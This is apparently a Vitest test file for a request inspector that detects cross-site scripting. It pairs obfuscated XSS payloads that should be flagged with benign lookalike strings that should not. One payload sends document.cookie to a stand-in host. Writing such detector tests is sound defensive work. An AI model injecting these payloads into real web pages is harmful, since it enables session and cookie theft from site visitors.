import { describe, expect, test } from "vitest";
import { inspectRequest } from "../inspect.ts";

const inspect = (text: string) => inspectRequest({ target: `/p?q=${encodeURIComponent(text)}`, headers: [] });

describe("script is found", () => {
  test.each([
    ["a script's tag", "<ScRiPt/x>alert(1)</script>", "script tag"],
    ["any handler in any tag", "<made-up onbeforeanything=f(1)>", "event handler in a tag"],
    ["a handler behind a quote", "x' onfocusin='f(1)' y='", "event handler after a quote"],
    ["a handler behind a blank", "x onpointermove=f(1)", "event handler"],
    ["a scheme that runs", "<a href='java&Tab;script&colon;f(1)'>", "script URI"],
    ["a link as a whole", "jAvascript://%0af(1)", "script URI"],
    ["a document in a link", "data:text/html,<b>x", "document URI"],
    ["a frame's document", "<iframe srcdoc=x>", "inline frame document"],
    ["a tag that loads", "<object data=//x.example/x>", "embedding tag"],
    ["a string's end and a call", "';confirm`1`//", "call of a page's function"],
    ["a computed name", "top['al'+'ert'](1)", "computed member of a global"],
    ["a chain of constructors", "[].constructor.constructor('x')()", "constructor chain"],
    ["a call without parentheses", "{onerror=alert}throw 1", "error handler"],
    ["punctuation alone", `"+${"[][(![]+[])]+".repeat(6)}`, "script of punctuation"],
    ["what sends secrets away", "x';location='//x.example/?'+document.cookie;'", "page's secrets"],
  ])("%s: %s", (_, text, sign) => {
    const { kind, findings } = inspect(text);
    expect(kind).toBe("xss");
    expect(findings.map((finding) => finding.sign)).toContain(sign);
  });
});

describe("script is not found", () => {
  test.each([
    "i <3 you",
    "a<b and only=5",
    "JavaScript: the good parts. Use onload = fast pages",
    "Map<String, Integer> map",
    "please confirm (yes or no)",
    "javascript:void(0)",
    "name='x' online='true' once='1'",
    "[link](https://shop.example/on/sale)",
    "data:image/png;base64,iVBORw0KGgo=",
    "$.items[0].name",
  ])("in %s", (text) => expect(inspect(text).kind).toBeUndefined());
});

test("rich text and code in a post are quiet", () => {
  const rich = '<p class="lead">Hello <a href="https://x.example/a">there</a> <img src="/a.png"></p>';
  const code = "Use this to greet the visitor:\n```\n<script>alert('hi')</script>\n```\nand reload the page.";
  for (const text of [rich, code]) {
    const body = JSON.stringify({ content: text });
    expect(inspectRequest({ target: "/posts", headers: [], body }).kind).toBeUndefined();
  }
});
